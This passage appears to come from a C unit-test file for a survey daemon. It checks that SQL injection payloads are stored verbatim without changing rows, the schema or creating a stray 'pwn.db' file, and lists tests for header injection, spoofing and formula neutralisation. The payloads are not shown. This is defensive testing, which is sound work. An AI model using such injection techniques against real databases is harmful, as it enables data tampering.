		    sql_payloads[(i + 4) % n], &values, &verbatim);
		sql_verbatim(db, "SELECT count(*) FROM answer a JOIN"
		    " participant p ON p.id = a.participant_id JOIN question q"
		    " ON q.id = a.question_id WHERE p.email = ?1 AND"
		    " q.qid = 'Q1' AND a.current = 1 AND a.answer = ?2", email,
		    sql_payloads[i], &values, &verbatim);
		sql_verbatim(db, "SELECT count(*) FROM answer a JOIN"
		    " participant p ON p.id = a.participant_id JOIN question q"
		    " ON q.id = a.question_id WHERE p.email = ?1 AND"
		    " q.qid = 'Q2' AND a.current = 1 AND a.answer = ?2", email,
		    sql_payloads[(i + 5) % n], &values, &verbatim);
	}
	/* Nothing else changed: rows, statuses, schema, other files. */
	unexpected += db_int(db, "SELECT count(*) FROM participant", NULL) !=
	    (int64_t)n;
	unexpected += db_int(db, "SELECT count(*) FROM participant"
	    " WHERE status != 'active'", NULL) != 0;
	unexpected += db_int(db, "SELECT count(*) FROM invitation", NULL) !=
	    (int64_t)n;
	unexpected += db_int(db, "SELECT count(*) FROM message", NULL) !=
	    (int64_t)n;
	unexpected += db_int(db, "SELECT count(*) FROM answer", NULL) !=
	    2 * (int64_t)n;
	unexpected += db_int(db, "SELECT count(*) FROM outbox", NULL) !=
	    2 * (int64_t)n;
	unexpected += db_int(db, "SELECT count(*) FROM consultation", NULL) !=
	    1;
	unexpected += db_int(db, "SELECT count(*) FROM consultation"
	    " WHERE closed_at IS NOT NULL", NULL) != 0;
	ck_assert_int_eq(db_int(db, "SELECT count(*) FROM"
	    " pragma_integrity_check WHERE integrity_check = 'ok'", NULL), 1);
	sqlite3_close(db);
	schema_after = schema_snapshot(dir);
	pwn = g_build_filename(dir, "pwn.db", NULL);
	unexpected += strcmp(schema, schema_after) != 0;
	unexpected += g_file_test(pwn, G_FILE_TEST_EXISTS);

	testutil_report("sql", "payloads=%zu values=%u stored_verbatim=%u "
	    "refused_names=%u unexpected_changes=%u", n, values, verbatim,
	    refused, unexpected);
	ck_assert_uint_eq(verbatim, values);
	ck_assert_uint_eq(unexpected, 0);

	testutil_rmtree(dir);
	g_free(dir);
	g_unsetenv("CONSULTD_NOW");
}
END_TEST

Suite *
inject_suite(void)
{
	Suite *s = suite_create("inject");
	TCase *tc = tcase_create("headers");

	tcase_set_timeout(tc, 90);
	tcase_add_test(tc, test_inject_fields_add_no_header_smtp);
	tcase_add_test(tc, test_inject_fields_add_no_header_eml);
	suite_add_tcase(s, tc);
	tc = tcase_create("spoofing");
	tcase_set_timeout(tc, 90);
	tcase_add_test(tc, test_inject_spoofing_changes_no_answer);
	suite_add_tcase(s, tc);
	tc = tcase_create("data");
	tcase_set_timeout(tc, 60);
	tcase_add_test(tc, test_inject_export_neutralises_formulas);
	tcase_add_test(tc, test_inject_sql_is_stored_verbatim);
	suite_add_tcase(s, tc);
	return s;
}
